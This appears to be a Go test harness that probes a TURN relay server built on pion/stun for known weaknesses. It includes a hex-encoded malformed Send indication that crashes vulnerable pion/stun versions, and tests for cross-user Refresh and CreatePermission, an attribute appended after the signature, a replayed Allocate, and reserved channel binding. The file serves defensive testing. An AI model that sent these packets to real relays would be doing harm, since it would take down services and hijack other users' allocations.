package relaytest

import (
	"encoding/hex"
	"errors"
	"fmt"
	"net/netip"
	"time"

	"github.com/pion/stun/v3"
)

// crashBySend sends, on a live allocation, a Send indication whose last
// attribute is an XOR-PEER-ADDRESS without a value. pion/stun before v3.1.3
// slices that value without a look at its length, and when the packet fills
// its allocation of 32 bytes there is nothing behind it to slice. Send
// indications are not signed, so whoever can forge a source address can do it.
func crashBySend(env Env) Result {
	packet, err := hex.DecodeString("0016000c2112a442" + "000000000000000000000000" +
		"0013000401020304" + "00120000")
	if err != nil {
		return failure(err)
	}
	alice, err := env.allocate(env.Alice)
	if err != nil {
		return failure(err)
	}
	if err := alice.WriteRaw(packet); err != nil {
		return failure(err)
	}
	alice.Timeout /= 4
	for range 20 { // until the death is known, five seconds at most
		err = settle(alice)
		if env.Died() {
			return Result{Succeeded: true, Saw: "the server died"}
		}
		if err == nil {
			return Result{Saw: "the server went on"}
		}
	}
	return failure(fmt.Errorf("the server is neither alive nor dead: %w", err))
}

// deleteOfAnother ends alice's allocation with bob's credential, sent from
// alice's address.
func deleteOfAnother(env Env) Result {
	alice, err := env.allocate(env.Alice)
	if err != nil {
		return failure(err)
	}
	saw := answer(alice.As(env.Bob).Refresh(0))
	r, silent := alice.Refresh(10 * time.Minute)
	if err := onlySilent(alice, silent); err != nil {
		return failure(err)
	}
	return Result{
		Succeeded: silent != nil || !r.OK(),
		Saw:       fmt.Sprintf("bob's Refresh 0: %s; alice's Refresh then: %s", saw, answer(r, silent)),
	}
}

// permissionOfAnother adds a permission to alice's allocation with bob's
// credential, sent from alice's address.
func permissionOfAnother(env Env) Result {
	alice, err := env.allocate(env.Alice)
	if err != nil {
		return failure(err)
	}
	peer, err := NewEar(env.NewPeer())
	if err != nil {
		return failure(err)
	}
	saw := answer(alice.As(env.Bob).CreatePermission(peer.Addr()))
	return reach(alice, peer, saw, func() error { return alice.Send(peer.Addr(), payload) })
}

// appendedPeer takes alice's signed CreatePermission for one peer and appends
// another behind the signature, as whoever sits on the path could.
func appendedPeer(env Env) Result {
	alice, err := env.allocate(env.Alice)
	if err != nil {
		return failure(err)
	}
	meant, err := netip.ParseAddrPort(alice.Conn.LocalAddr().String())
	if err != nil {
		return failure(err)
	}
	appended, err := NewEar(env.NewPeer())
	if err != nil {
		return failure(err)
	}
	request, err := alice.Request(stun.MethodCreatePermission,
		[]stun.Setter{XORPeer(meant)}, []stun.Setter{XORPeer(appended.Addr())})
	if err != nil {
		return failure(err)
	}
	saw := answer(alice.Exchange(request))
	return reach(alice, appended, saw, func() error { return alice.Send(appended.Addr(), payload) })
}

// replayedAllocate sends alice's own Allocate, byte for byte, from another
// port: a nonce that is not bound to the client lets whoever saw one request
// have an allocation in alice's name.
func replayedAllocate(env Env) Result {
	alice := NewClient(env.NewConn(), env.Server, env.Alice)
	bare, err := alice.Request(stun.MethodAllocate, []stun.Setter{RequestedTransport(17)}, nil)
	if err != nil {
		return failure(err)
	}
	challenge, err := alice.Exchange(bare)
	if err != nil {
		return failure(err)
	}
	alice.Realm, alice.Nonce = challenge.Realm, challenge.Nonce
	captured, err := alice.Request(stun.MethodAllocate, []stun.Setter{RequestedTransport(17)}, nil)
	if err != nil {
		return failure(err)
	}
	if r, err := alice.Exchange(captured); err != nil || !r.OK() {
		return failure(fmt.Errorf("alice gets no allocation: %s", answer(r, err)))
	}
	r, err := NewClient(env.NewConn(), env.Server, User{}).Exchange(captured)
	return Result{Succeeded: err == nil && r.OK(), Saw: answer(r, err)}
}

// bindChannel binds a channel number that no client may bind.
func bindChannel(number uint16) func(Env) Result {
	return func(env Env) Result {
		alice, err := env.allocate(env.Alice)
		if err != nil {
			return failure(err)
		}
		peer, err := NewEar(env.NewPeer())
		if err != nil {
			return failure(err)
		}
		r, err := alice.ChannelBind(number, peer.Addr())
		return Result{Succeeded: err == nil && r.OK(), Saw: answer(r, err)}
	}
}

// unansweredRefresh refreshes what does not exist. A client that hears 437
// allocates anew at once; one that hears nothing waits for most of a minute.
func unansweredRefresh(env Env) Result {
	alice := NewClient(env.NewConn(), env.Server, env.Alice)
	r, silent := alice.Refresh(10 * time.Minute)
	err := onlySilent(alice, silent)
	if err == nil && alice.Nonce == "" {
		err = fmt.Errorf("the server did not challenge: %s", answer(r, silent))
	}
	if err != nil {
		return failure(err)
	}
	return Result{Succeeded: silent != nil, Saw: answer(r, silent)}
}

// onlySilent passes err, how a request ended, if it is nil or the silence of a
// server that still answers other requests.
func onlySilent(c *Client, err error) error {
	if errors.Is(err, ErrNoAnswer) {
		return settle(c)
	}
	return err
}
